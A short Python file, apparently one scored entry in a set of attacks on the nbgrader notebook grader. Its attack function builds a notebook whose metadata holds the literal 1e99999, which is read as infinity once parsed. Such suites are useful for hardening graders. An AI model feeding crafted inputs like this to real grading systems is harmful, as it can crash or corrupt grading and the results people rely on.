"""A number that is infinite as soon as it is read.

Score: 5
"""

import json


def cell(notebook, name):
    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == name)


def attack(notebook):
    notebook["metadata"]["x"] = "endless"
    return json.dumps(notebook).replace('"endless"', "1e99999").encode()
